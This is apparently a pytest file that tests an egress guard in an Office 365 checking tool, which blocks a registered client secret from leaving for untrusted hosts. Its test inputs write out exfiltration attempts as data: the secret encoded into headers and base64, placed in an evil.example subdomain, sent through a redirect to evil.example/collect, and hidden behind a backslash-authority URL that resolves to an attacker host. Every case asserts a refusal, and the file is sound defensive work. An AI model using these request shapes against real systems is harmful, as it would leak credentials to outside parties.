"""The one way out: the egress rule on prepared requests, the session's layers, the target decision."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
import requests
from requests.adapters import BaseAdapter

from o365check.errors import SecretRoutingError
from o365check.settings import Settings
from o365check.transport import Egress, build_session, egress_of, open_target, open_transport
from o365check.transport.session import TransportAdapter

SECRET = "CANARY-s3cr3t+/=Xq9~Zk7Lw4Yq1Nd6Hc0"
TOKEN_URL = "https://login.microsoftonline.com/t/oauth2/v2.0/token"


def prepared(url: str = "https://api.example/x", method: str = "GET", **kwargs: Any) -> requests.PreparedRequest:
    return requests.Request(method, url, **kwargs).prepare()


@pytest.fixture
def egress() -> Egress:
    rule = Egress()
    rule.register("client_secret", SECRET)
    return rule


@pytest.mark.parametrize(
    "request_",
    [
        prepared(f"https://api.example/x?s={SECRET}"),
        prepared(params={"s": SECRET}),
        prepared(headers={"X-Key": SECRET}),
        prepared(headers={"X-" + SECRET.replace("/", "").replace("+", "").replace("=", ""): "1"}),
        prepared(auth=("user", SECRET)),
        prepared(method="POST", data={"client_secret": SECRET}),
        prepared(method="POST", json={"nested": {"s": SECRET}}),
        prepared(method="POST", data=json.dumps({"s": SECRET}, ensure_ascii=True).replace("C", "\\u0043")),
        prepared(headers={"X-B": base64.b64encode(b"x" + SECRET.encode() + b"yz").decode()}),
        prepared(headers={"X-B": base64.urlsafe_b64encode(b"ab" + SECRET.encode()).decode()}),
        prepared(headers={"X-1": SECRET[:17], "X-2": "other"}),  # a fragment of a long secret
        prepared(f"https://{SECRET[:20].lower().replace('+', '')}.evil.example/"),  # lower-cased into a host
    ],
    ids=lambda r: (r.method or "") + " " + (r.url or "")[:40],
)
def test_a_secret_in_any_form_is_found_and_refused(egress: Egress, request_: requests.PreparedRequest) -> None:
    assert egress.find_secret(request_) == "client_secret"
    with pytest.raises(SecretRoutingError) as caught:
        egress.check(request_)
    assert SECRET not in str(caught.value) and SECRET[:17].lower() not in str(caught.value).lower()
    assert caught.value.variable == "client_secret"


def test_a_host_built_from_the_secret_is_masked_in_the_refusal(egress: Egress) -> None:
    host = SECRET[:20].lower().replace("+", "")
    with pytest.raises(SecretRoutingError) as caught:
        egress.check(prepared(f"https://{host}.evil.example/"))
    assert host not in str(caught.value) and "********" in str(caught.value)


def test_where_a_secret_may_go(egress: Egress) -> None:
    body = {"client_secret": SECRET}
    egress.check(prepared(TOKEN_URL, "POST", data=body))  # identity host over TLS
    egress.check(prepared("http://127.0.0.1:8400/token", "POST", data=body))  # the loopback sandbox
    egress.check(prepared("http://[::1]:8400/token", "POST", data=body))
    egress.check(prepared("https://api.example/x?q=nothing-secret"))  # no secret: anywhere
    for url in (
        TOKEN_URL.replace("https", "http"),  # no TLS
        "https://login.microsoftonline.com./t",  # another spelling is another name
        "https://graph.microsoft.com/v1.0/me",  # a resource host
        "http://2130706433/",  # 127.0.0.1 in decimal is not trusted as loopback
    ):
        with pytest.raises(SecretRoutingError):
            egress.check(prepared(url, "POST", data=body))
    egress.allow(["api.example"])
    egress.check(prepared("https://api.example/x", "POST", data=body))


def test_the_destination_is_what_urllib3_connects_to(egress: Egress) -> None:
    # requests/urllib3 read this as host "attacker" (the backslash ends the authority): so do we.
    with pytest.raises(SecretRoutingError) as caught:
        egress.check(prepared("https://ATTACKER:9443\\@login.microsoftonline.com/tok", "POST", data={"s": SECRET}))
    assert caught.value.host == "attacker"


def test_proxies_plain_http_through_a_proxy_is_refused_a_connect_tunnel_is_not(egress: Egress) -> None:
    proxies = {"http": "http://proxy.example:3128", "https": "http://proxy.example:3128"}
    with pytest.raises(SecretRoutingError) as caught:
        egress.check(prepared(f"http://127.0.0.1:8400/t?s={SECRET}"), proxies)
    assert caught.value.host == "proxy.example" and "NO_PROXY" in str(caught.value)
    egress.check(prepared(TOKEN_URL, "POST", data={"client_secret": SECRET}), proxies)  # CONNECT: TLS end to end
    egress.allow(["proxy.example"])
    egress.check(prepared(f"http://127.0.0.1:8400/t?s={SECRET}"), proxies)


def test_a_streamed_body_cannot_be_checked_so_it_may_not_leave(egress: Egress) -> None:
    streamed = prepared("https://api.example/x", "POST", data=iter([b"chunk"]))
    with pytest.raises(Exception, match="streamed body"):
        egress.check(streamed)


def test_a_tainted_request_goes_only_where_its_secret_may_go(egress: Egress) -> None:
    egress.tainted_by = "client_secret"
    with pytest.raises(SecretRoutingError, match="script that may read"):
        egress.check(prepared("https://api.example/x?v=reversed-or-whatever"))
    egress.check(prepared(TOKEN_URL))


def test_a_replay_sends_nothing_so_it_enforces_nothing() -> None:
    rule = Egress(replaying=True)
    rule.register("client_secret", SECRET)
    rule.check(prepared(f"https://api.example/x?s={SECRET}"))


def test_repr_never_shows_a_secret(egress: Egress) -> None:
    assert SECRET not in repr(egress)


class Spy(BaseAdapter):
    def __init__(self) -> None:
        super().__init__()
        self.sent: list[tuple[requests.PreparedRequest, dict]] = []

    def send(self, request: requests.PreparedRequest, **kwargs: Any) -> requests.Response:  # type: ignore[override]
        self.sent.append((request, kwargs))
        response = requests.Response()
        response.status_code, response._content, response.request, response.url = 200, b"{}", request, request.url
        return response

    def close(self) -> None:
        pass


def test_an_adapter_mounted_later_is_still_behind_the_rule() -> None:
    session = build_session()
    egress_of(session).register("client_secret", SECRET)
    spy = Spy()
    session.mount("https://api.example/", spy)
    assert session.get("https://api.example/ok").status_code == 200
    with pytest.raises(SecretRoutingError):
        session.get("https://api.example/x", headers={"X": SECRET})
    assert len(spy.sent) == 1


def test_a_foreign_session_gets_the_rule_too() -> None:
    session = requests.Session()
    spy = Spy()
    session.mount("https://", spy)
    egress_of(session).register("client_secret", SECRET)
    with pytest.raises(SecretRoutingError):
        session.get("https://api.example/x", params={"s": SECRET})
    assert spy.sent == []


def test_every_redirect_hop_is_checked() -> None:
    class Bounce(Spy):
        def send(self, request: requests.PreparedRequest, **kwargs: Any) -> requests.Response:  # type: ignore[override]
            response = super().send(request, **kwargs)
            response.status_code, response.headers["Location"] = 307, "https://evil.example/collect"
            return response

    session = build_session()
    egress_of(session).allow(["trusted.example"])
    egress_of(session).register("client_secret", SECRET)
    bounce, sink = Bounce(), Spy()
    session.mount("https://trusted.example/", bounce)
    session.mount("https://evil.example/", sink)
    with pytest.raises(SecretRoutingError) as caught:
        session.post("https://trusted.example/t", data={"client_secret": SECRET})
    assert caught.value.host == "evil.example" and len(bounce.sent) == 1 and sink.sent == []


def test_a_digest_retry_through_the_response_is_checked_too() -> None:
    session = build_session()
    egress_of(session).register("client_secret", SECRET)
    spy = Spy()
    session.mount("https://api.example/", spy)
    response = session.get("https://api.example/ok")
    with pytest.raises(SecretRoutingError):
        response.connection.send(prepared("https://api.example/x", headers={"X": SECRET}))
    assert len(spy.sent) == 1


def test_a_direct_send_honours_requests_ca_bundle(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    # doctor --postman sends a prepared request with session.send(), which skips requests' merge
    # of the environment; the transport merges it, so REQUESTS_CA_BUNDLE and proxies count.
    bundle = tmp_path / "ca.pem"
    bundle.write_text("")
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(bundle))
    session = build_session()
    spy = Spy()
    session.mount("https://login.microsoftonline.com/", spy)
    session.send(session.prepare_request(requests.Request("POST", TOKEN_URL, data={"a": "b"})))
    assert spy.sent[0][1]["verify"] == str(bundle)


def test_the_sandbox_is_a_layer_under_the_rule() -> None:
    target = open_target(Settings(sandbox="ok"))
    assert isinstance(target.session.get_adapter("https://graph.microsoft.com/"), TransportAdapter)
    secret = target.settings.client_secret.reveal()
    with pytest.raises(SecretRoutingError) as caught:
        target.session.get("https://graph.microsoft.com/v1.0/users", params={"leak": secret})
    assert "client_secret" in caught.value.variable and secret not in str(caught.value)
    assert target.mode == "sandbox" and target.egress.has_secrets


def test_run_replays_from_o365check_cassette_and_cassettes_share_one_metadata_shape(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from o365check.postman.command import RunOptions, run_collection_cli
    from o365check.recording import open_cassette

    collection = Path(__file__).parent.parent / "collections" / "office365-sendmail.postman_collection.json"
    cassette = tmp_path / "run.yaml"
    assert run_collection_cli(RunOptions(str(collection), sandbox="ok", record=str(cassette), reporters=[])) == 0
    monkeypatch.setenv("O365CHECK_CASSETTE", str(cassette))
    monkeypatch.setattr("socket.socket.connect", lambda *a: (_ for _ in ()).throw(OSError("network blocked")))
    assert run_collection_cli(RunOptions(str(collection), reporters=[])) == 0  # replayed: no -e, no network

    doctor_cassette = tmp_path / "doctor.yaml"
    monkeypatch.delenv("O365CHECK_CASSETTE")
    target = open_target(Settings(sandbox="ok"), recorder=open_cassette(doctor_cassette, mode="rewrite"))
    target.recorder.close()
    shapes = [set(open_cassette(p).metadata) for p in (cassette, doctor_cassette)]
    assert shapes[0] - {"secret_stand_in"} == shapes[1] - {"secret_stand_in"}


def test_open_transport_refuses_an_unknown_scenario() -> None:
    with pytest.raises(Exception, match="not a scenario"):
        open_transport(sandbox="no-such-scenario")
